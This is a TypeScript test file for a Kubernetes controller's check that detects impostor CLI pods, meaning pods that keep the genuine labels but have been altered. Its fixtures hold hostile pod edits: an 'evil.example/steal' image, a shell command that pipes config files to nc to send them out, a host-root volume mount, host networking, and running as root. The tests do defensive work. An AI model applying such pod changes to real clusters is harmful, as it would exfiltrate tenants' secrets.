// A pod carrying the CLI pod's labels and spec annotation is not trusted for that: the owner's config travels into
// the pod a source picks, so anything that could read it there makes the pod an impostor.
import { describe, expect, test } from "bun:test";
import type { V1Pod } from "@kubernetes/client-node";
import { choosePod, impostorReason, renderCliPod, SPEC_HASH_ANNOTATION } from "../../../../src/cas/driver/cli-pod.ts";

const owner = { apiVersion: "services.scone.cloud/v1beta1", name: "cas", namespace: "tenant", uid: "uid-1" };
const want = renderCliPod(owner, "registry.scontain.com/scone.cloud/sconecli:6.0.6");
/** What the API server returns for the pod the source created: the same fields, plus defaults and a status. */
const live = (edit: (p: V1Pod) => void = () => {}): V1Pod => {
  const p = structuredClone(want) as V1Pod;
  p.metadata = { ...p.metadata, name: "cas-sconecli-abcde", creationTimestamp: new Date() };
  p.spec = { ...p.spec, dnsPolicy: "ClusterFirst", schedulerName: "default-scheduler" } as V1Pod["spec"];
  if (p.spec?.containers[0]) p.spec.containers[0].terminationMessagePath = "/dev/termination-log";
  p.status = { phase: "Running", conditions: [{ type: "Ready", status: "True" }] };
  edit(p);
  return p;
};
const c0 = (p: V1Pod) => p.spec?.containers[0] as NonNullable<V1Pod["spec"]>["containers"][number];

describe("impostorReason", () => {
  test("the pod a source created, as the API server returns it, is genuine", () => {
    expect(impostorReason(live(), want)).toBeUndefined();
  });

  const spec = (p: V1Pod) => p.spec as NonNullable<V1Pod["spec"]>;
  const edits: [string, (p: V1Pod) => void, string][] = [
    [
      "another image",
      (p) => {
        c0(p).image = "evil.example/steal:1";
      },
      "its container differs",
    ],
    [
      "another command",
      (p) => {
        c0(p).command = ["sh", "-c", "cat /tmp/*/config.json | nc x 1"];
      },
      "its container differs",
    ],
    ["a second container", (p) => spec(p).containers.push({ ...c0(p), name: "sidecar" }), "exactly the CLI container"],
    [
      "an ephemeral container",
      (p) => {
        spec(p).ephemeralContainers = [{ name: "debug", image: "busybox" }];
      },
      "other containers",
    ],
    ["a host path volume", (p) => spec(p).volumes?.push({ name: "host", hostPath: { path: "/" } }), "volumes differ"],
    [
      "host networking",
      (p) => {
        spec(p).hostNetwork = true;
      },
      "host namespace",
    ],
    [
      "a service-account token",
      (p) => {
        spec(p).automountServiceAccountToken = true;
      },
      "service-account token",
    ],
    [
      "root",
      (p) => {
        spec(p).securityContext = { ...spec(p).securityContext, runAsUser: 0 };
      },
      "pod security context",
    ],
    [
      "another owner",
      (p) => {
        p.metadata = { ...p.metadata, ownerReferences: [] };
      },
      "not controlled by this CAS",
    ],
  ];
  test.each(edits)("%s: an impostor, named", (_what, edit, reason) => {
    const p = live(edit);
    // Labels and the spec annotation are the genuine pod's: they prove nothing.
    expect(p.metadata?.annotations?.[SPEC_HASH_ANNOTATION]).toBe(want.metadata?.annotations?.[SPEC_HASH_ANNOTATION]);
    expect(impostorReason(p, want)).toContain(reason);
  });

  test("choosePod only ever sees genuine pods: an impostor alone means a new pod is created", () => {
    const hash = want.metadata?.annotations?.[SPEC_HASH_ANNOTATION] ?? "";
    const impostor = live((p) => {
      c0(p).image = "evil.example/steal:1";
    });
    const genuine = [impostor].filter((p) => impostorReason(p, want) === undefined);
    expect(choosePod(genuine, hash, Date.now(), 60_000).kind).toBe("create");
    expect(choosePod([impostor], hash, Date.now(), 60_000).kind).toBe("use"); // why the filter must come first
  });
});
